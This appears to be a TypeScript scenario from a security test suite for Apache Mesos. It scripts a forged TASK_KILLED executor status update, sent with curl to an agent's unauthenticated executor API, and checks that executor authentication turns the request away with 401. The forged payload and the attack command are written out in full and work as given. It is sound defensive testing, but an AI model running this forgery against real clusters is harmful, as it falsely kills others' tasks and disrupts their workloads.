import { observedAttack, sandboxOf } from "../_shared/attacks.js";

const OBSERVED = observedAttack("07");

/**
 * A status update as the victim's executor, from anyone on the network: the executor API checks nothing without
 * executor authentication, so a forged `TASK_KILLED` reaches the victim's scheduler (`202 Accepted`). The UUID must be
 * a valid version-4 UUID (stout rejects others: "Not a valid UUID"); any fixed one will do. With executor
 * authentication the call needs the victim's JWT: `401` with a Bearer challenge.
 */
const FORGED_UPDATE = JSON.stringify({
  type: "UPDATE",
  framework_id: { value: "FID" },
  executor_id: { value: "victim" },
  update: {
    status: {
      task_id: { value: "victim" },
      state: "TASK_KILLED",
      source: "SOURCE_EXECUTOR",
      uuid: "uJs8qm9WTCCOGX3OwJeiDQ==",
      message: "forged by the attacker",
    },
  },
})
  // the framework's ID comes from the shell (`$f`): the single-quoted JSON is opened around it
  .replace('"FID"', `"'"$f"'"`);

export const forgedUpdate = {
  id: "forged-update",
  title: "anyone on the network speaks for a task's executor and reports it killed",
  // the agent logs an executor call it lets through (with executor authentication a tokenless one is 401, not logged)
  noticed: { log: "agent" as const, pattern: "HTTP POST for /slave\\(1\\)/api/v1/executor from (?<from>[0-9.]+):\\d+" },
  actions: [
    { do: "execute" as const, id: "victim", args: ["--name=victim", "--command=sleep 600"], detach: true },
    {
      do: "attack" as const,
      id: "forge",
      http: true,
      run: `${sandboxOf("victim")}; f=$(echo "$s" | cut -d/ -f3); curl -si -X POST -H 'Content-Type: application/json' -d '${FORGED_UPDATE}' 'http://\${target.agent}/slave(1)/api/v1/executor'`,
    },
  ],
  works: [
    {
      id: "forge-202",
      says: "the forged UPDATE is 202 Accepted: the agent never asked who sent it",
      source: { attacker: "forge", part: "status" as const },
      pattern: "^HTTP/1\\.1 202 Accepted$",
      cite: { at: "src/slave/http.cpp:859-866", ref: OBSERVED },
    },
    {
      id: "victim-killed",
      says: "the victim's scheduler is told its task was killed, by the attacker's message",
      source: { execute: "stdout" as const, action: "victim" },
      pattern: "^  message: 'forged by the attacker'",
      cite: { at: "src/cli/execute.cpp:702", ref: OBSERVED },
      example: "  message: 'forged by the attacker'",
    },
  ],
  blocked: [
    {
      id: "forge-401",
      says: "the forged UPDATE is 401 Unauthorized: it carries no token of the agent's",
      source: { attacker: "forge", part: "status" as const },
      pattern: "^HTTP/1\\.1 401 Unauthorized$",
      cite: { at: "3rdparty/libprocess/src/jwt_authenticator.cpp:65-69", ref: OBSERVED },
    },
    {
      id: "forge-bearer",
      says: "the agent asks for a Bearer token for the mesos-agent-executor realm",
      source: { attacker: "forge", part: "headers" as const },
      pattern: 'WWW-Authenticate: Bearer realm="mesos-agent-executor"$',
      cite: { at: "3rdparty/libprocess/src/jwt_authenticator.cpp:65-69", ref: OBSERVED },
    },
    {
      id: "victim-runs-on",
      says: "the victim's task is not reported killed",
      source: { execute: "stdout" as const, action: "victim" },
      pattern: "TASK_KILLED",
      negate: true,
      timeoutMs: 1000,
      cite: { at: "src/cli/execute.cpp:702", ref: OBSERVED },
      example: "Received status update TASK_KILLED for task 'victim'",
    },
  ],
};
